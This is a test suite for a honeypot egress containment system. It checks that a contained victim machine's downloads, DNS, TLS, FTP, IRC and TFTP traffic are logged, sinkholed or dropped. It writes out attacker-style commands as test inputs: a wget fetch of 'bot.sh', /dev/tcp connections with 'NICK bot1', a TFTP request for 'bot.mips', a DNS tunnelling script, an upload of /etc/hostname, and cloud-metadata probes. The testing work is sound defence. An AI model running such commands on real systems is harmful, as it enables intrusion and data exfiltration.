import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { waitFor } from '@waspglass/kit';
import { Attacker } from '../../../test/attacker/attacker.ts';
import { Containment, linkAddresses, parsePolicy, readEgressLog, Victim, withSinkSockets } from '../src/index.ts';
import { leftBehind, output, reasonToSkip, testImage } from './fixture.ts';

const INSTANCE = 'wgvictb';
const NETWORK = '10.66.96.0/30';
const PORT = 22_298;
const HOST = '203.0.113.65';
const [WORLD, RESOLVER] = ['203.0.113.70', '198.51.100.53'];
/** A user id that nobody has. */
const UID = 63_921;
const POLICY = ['dns answer', 'http store', 'https relay', 'ftp store', 'tftp record', 'irc record', 'tcp trickle'];
const LIMITS = { connections: 40, packets: 2000, bytes: 4 * 2 ** 20, questions: 60 };

describe('what a victim may do outside', { skip: reasonToSkip() }, () => {
  let directory = '';
  let internet: Attacker;
  let world: ChildProcess;
  let mediator: ChildProcess;
  let containment: Containment;
  let victim: Victim;
  let seen = '';
  const object = randomBytes(300_000);
  const hash = createHash('sha256').update(object).digest('hex');

  const place = () => ({ instance: INSTANCE, stateDirectory: `${directory}/state`, runDirectory: `${directory}/run` });
  const root = (command: string) => internet.ssh({ user: 'root', password: 'passw0rd', port: PORT, command });
  const rows = (kind: string, outcome: string) =>
    readEgressLog(`${directory}/egress/egress.jsonl`).filter((row) => row.kind === kind && row.outcome === outcome);
  const row = (kind: string, outcome: string, match: (row: Record<string, unknown>) => boolean = () => true) =>
    waitFor(() => rows(kind, outcome).find(match), { limit: 5000, what: `the log to have ${kind} ${outcome}` });

  const startMediator = async () => {
    const settings = { policy: POLICY, limits: LIMITS, directory: `${directory}/egress`, uid: UID, upstream: RESOLVER };
    const starter = fileURLToPath(new URL('start-mediator.ts', import.meta.url));
    const program = [process.execPath, '--disable-warning=ExperimentalWarning', starter, JSON.stringify(settings)];
    const [command, ...args] = withSinkSockets(INSTANCE, process.pid, program);
    mediator = spawn(command, args, { stdio: ['ignore', 'pipe', 'inherit'] });
    let said = '';
    mediator.stdout?.on('data', (data) => {
      said += data;
    });
    const ready = () => {
      assert.equal(mediator.exitCode, null, 'the mediators ended');
      return said.includes('ready');
    };
    await waitFor(ready, { limit: 10_000, what: 'the mediators' });
  };

  before(async () => {
    directory = mkdtempSync(`${tmpdir()}/wgvictb-`);
    chmodSync(directory, 0o755);
    mkdirSync(`${directory}/egress`);
    chownSync(`${directory}/egress`, UID, UID);
    writeFileSync(`${directory}/object`, object);
    const certificate = ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-subj', '/CN=files.example'];
    output('openssl', ...certificate, '-keyout', `${directory}/key`, '-out', `${directory}/cert`);
    internet = await Attacker.create({ name: 'wgvbnet', hostAddress: `${HOST}/26`, addresses: [WORLD, RESOLVER] });
    const program = [process.execPath, fileURLToPath(new URL('world.ts', import.meta.url)), directory, WORLD, RESOLVER];
    world = spawn('ip', ['netns', 'exec', internet.namespace, ...program], { stdio: ['ignore', 'pipe', 'inherit'] });
    world.stdout?.setEncoding('utf8').on('data', (text: string) => {
      seen += text;
    });
    await waitFor(() => seen.includes('ready'), { limit: 10_000, what: 'the servers' });
    const policy = parsePolicy(POLICY);
    const victimAddress = linkAddresses(NETWORK).victim;
    const egress = { uid: UID, policy, limits: LIMITS, resolvers: [RESOLVER] };
    containment = await Containment.apply({ instance: INSTANCE, hostPort: PORT, victimAddress, egress });
    await startMediator();
    victim = await Victim.create({ ...place(), image: (await testImage()).root, network: NETWORK });
    await victim.start();
    await victim.waitForPort();
  });

  after(async () => {
    mediator.kill('SIGKILL');
    world.kill('SIGKILL');
    await Victim.removeLeftovers(place());
    await Containment.of(INSTANCE).remove();
    await internet.close();
    await rm(directory, { recursive: true, force: true });
    assert.deepEqual(leftBehind(INSTANCE, directory), []);
  });

  test('a download works, is stored by its hash and logged', async () => {
    const { stdout, stderr } = await root(`wget -qO- http://${WORLD}/bot.sh?x=1 | sha256sum`);
    assert.match(stdout, new RegExp(`^${hash}`), stderr);
    const stored = await row('http', 'stored', ({ url }) => url === '/bot.sh?x=1');
    assert.equal(stored.sha256, hash);
    assert.equal(stored.bytes, object.length);
    assert.equal(stored.address, WORLD);
    assert.match(String(stored.agent), /^Wget/);
    const { size, mode } = statSync(`${directory}/egress/objects/${hash}`);
    assert.equal(size, object.length);
    assert.equal(mode & 0o7137, 0);
  });

  test('names are answered by our resolver, whatever server is meant', async () => {
    const { stdout } = await root(`getent hosts files.example; curl -s http://files.example:8080/other | sha256sum`);
    assert.match(stdout, new RegExp(`^${WORLD} +files.example`));
    assert.match(stdout, new RegExp(hash));
    const answered = await row('dns', 'answered', ({ name, type }) => name === 'files.example' && type === 'A');
    assert.deepEqual(answered.addresses, [WORLD]);
    const query = (name: string, type: number) => `import socket
q = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + ${name} + b"\\0" + bytes((0, ${type}, 0, 1))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ("192.0.2.77", 53)); a, f = s.recvfrom(512); print(f[0], a[3] & 15)`;
    const ask = async (name: string, type: number) => (await root(`python3 -c '${query(name, type)}'`)).stdout;
    assert.equal(await ask('b"\\5other\\7example"', 1), '192.0.2.77 0\n');
    assert.equal(await ask('b"\\6tunnel\\7example"', 16), '192.0.2.77 5\n');
    assert.doesNotMatch(seen, /dns .tunnel/);
  });

  test('a tunnel over names runs out of its budget', async () => {
    const script = `import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(50): s.sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + (b"\\x3c" + b"%060d" % i) * 3 + b"\\0\\0\\1\\0\\1", ("192.0.2.77", 53))`;
    await root(`python3 -c '${script}'`);
    const alarm = await row('dns', 'limit');
    assert.equal(alarm.alarm, true);
    assert.ok((seen.match(/dns .0000/g) ?? []).length < 20);
  });

  test('TLS is passed on, with the name in the log', async () => {
    const command = `curl -sk --resolve files.example:443:${WORLD} https://files.example/tls | sha256sum`;
    assert.match((await root(command)).stdout, new RegExp(`^${hash}`));
    const relayed = await row('https', 'relayed');
    assert.equal(relayed.name, 'files.example');
  });

  test('FTP is passed on without a way to a third machine', async () => {
    const command = `curl -s --disable-epsv --no-ftp-skip-pasv-ip ftp://user:secret@${WORLD}/pub/tool.tgz | sha256sum`;
    assert.match((await root(command)).stdout, new RegExp(`^${hash}`));
    const stored = await row('ftp', 'stored');
    assert.equal(stored.sha256, hash);
    assert.match(String(stored.line), /^RETR/);
    assert.ok(!JSON.stringify(rows('ftp', 'command')).includes('secret'));
    await root(`curl -s -m 3 -T /etc/hostname ftp://user:secret@${WORLD}/up`);
    assert.ok(rows('ftp', 'refused').some(({ line }) => String(line).startsWith('STOR')));
    assert.doesNotMatch(seen, /STOR/);
  });

  test('uploads, other methods and private addresses are refused', async () => {
    await root(`curl -s -m 3 -d secret=1 http://${WORLD}/post; curl -s -m 3 -X PUT -d x http://${WORLD}/put`);
    assert.doesNotMatch(seen, /post|put/);
    const refused = await row('http', 'refused', ({ url }) => url === '/post');
    assert.equal(Buffer.from(String(refused.first), 'base64').toString(), 'secret=1');
    const { stdout } = await root(
      `for a in 10.0.0.1 169.254.169.254 192.168.1.1 127.0.0.1 ${HOST} 10.66.96.1; do curl -s -m 1 http://$a/ && echo WORKED; done`,
    );
    assert.equal(stdout, '');
  });

  test('an object beyond the limit is cut within a second, with an alarm', async () => {
    const { stdout } = await root(`curl -s -o /tmp/endless -w "%{size_download}" http://${WORLD}/endless`);
    const alarm = await row('http', 'limit');
    assert.equal(alarm.bytes, LIMITS.bytes);
    assert.ok(Number(stdout) > 0 && Number(stdout) <= LIMITS.bytes);
    await waitFor(() => seen.includes('endless ended'), { limit: 1000, what: 'the server to notice' });
  });

  test('the sinkhole records first bytes and lets nothing through', async () => {
    const irc = 'exec 3<>/dev/tcp/WORLD/6667; echo "NICK bot1" >&3; timeout 1 cat <&3; exec 3>&-'.replace(
      'WORLD',
      WORLD,
    );
    assert.equal((await root(`bash -c '${irc}'`)).stdout, '');
    const recorded = await row('irc', 'recorded');
    assert.equal(Buffer.from(String(recorded.first), 'base64').toString(), 'NICK bot1\n');
    await root(
      `python3 -c 'import socket; socket.socket(2, 2).sendto(b"\\0\\1bot.mips\\0octet\\0", ("${WORLD}", 69))'`,
    );
    const request = await row('tftp', 'recorded');
    assert.match(Buffer.from(String(request.first), 'base64').toString(), /bot\.mips/);
    assert.doesNotMatch(seen, /arrived 6667/);
  });

  test('a trickle is slow', async () => {
    const begin = performance.now();
    const script = `import socket
s = socket.create_connection(("${WORLD}", 31337), 5); print(s.recv(20)); s.send(b"x" * 20000); s.shutdown(1); s.recv(1)`;
    assert.match((await root(`python3 -c '${script}'`)).stdout, /welcome/);
    const isIt = (found: Record<string, unknown>) => found.port === 31_337;
    const passed = await waitFor(() => rows('tcp', 'relayed').find(isIt), { limit: 60_000, what: 'its end' });
    assert.equal(passed.sent, 20_000);
    assert.ok(performance.now() - begin > 8000);
  });

  test('mail and remote shells are dropped whatever the policy says', async () => {
    const before = (await containment.counters()).egressDropped.packets;
    const { stdout } = await root(
      `for p in 22 23 25 587; do timeout 1 bash -c "cat </dev/tcp/${WORLD}/$p" && echo WORKED; done; echo end`,
    );
    assert.equal(stdout, 'end\n');
    assert.doesNotMatch(seen, /arrived (22|23|25|587)/);
    assert.ok((await containment.counters()).egressDropped.packets >= before + 4);
  });

  test('more connections than the budget has are dropped in the kernel', async () => {
    const arrived = () => (seen.match(/http GET \/many/g) ?? []).length;
    await root(`for i in $(seq 1 90); do curl -s -m 0.3 -o /dev/null http://${WORLD}/many & done; wait`);
    assert.ok(arrived() <= LIMITS.connections + 5, `${arrived()} connections arrived`);
    assert.ok((await containment.counters()).overLimit.packets > 10);
  });

  test('the mediators’ user reaches only what the policy names', async () => {
    const before = (await containment.counters()).mediatorDropped.packets;
    const as = ['--reuid', `${UID}`, '--regid', `${UID}`, '--clear-groups'];
    const script = `for d in ${WORLD}/25 ${WORLD}/22 10.66.96.2/22 127.0.0.1/${PORT} ${HOST}/${PORT} 192.168.1.1/80; do
timeout 1 bash -c "exec 3<>/dev/tcp/$d" 2>/dev/null && echo WORKED $d; done; echo end`;
    assert.equal(output('setpriv', ...as, 'bash', '-c', script), 'end\n');
    assert.ok((await containment.counters()).mediatorDropped.packets > before);
  });

  test('the kill switch cuts attackers off too, and is handed on to new rules', async () => {
    await containment.isolate();
    assert.equal(await containment.isIsolated(), true);
    assert.equal((await root('echo in')).status, 255);
    const victimAddress = linkAddresses(NETWORK).victim;
    const egress = { uid: UID, policy: parsePolicy(POLICY), limits: LIMITS, resolvers: [RESOLVER] };
    await Containment.apply({ instance: INSTANCE, hostPort: PORT, victimAddress, egress });
    assert.equal(await containment.isIsolated(), true);
    await containment.release();
    assert.equal((await root('echo in')).stdout, 'in\n');
  });

  test('fails closed when the mediators are killed, and goes on when they are back', async () => {
    mediator.kill('SIGKILL');
    await once(mediator, 'close');
    const before = seen;
    const { stdout } = await root(
      `curl -s -m 2 http://${WORLD}/dead && echo WORKED; curl -sk -m 2 https://${WORLD}/dead && echo WORKED; getent hosts dead.example; echo end`,
    );
    assert.equal(stdout, 'end\n');
    assert.equal(seen, before);
    await startMediator();
    assert.match((await root(`curl -s http://${WORLD}/back | sha256sum`)).stdout, new RegExp(`^${hash}`));
    assert.ok(!readdirSync(`${directory}/egress/objects`).some((name) => name.endsWith('.part')));
  });
});
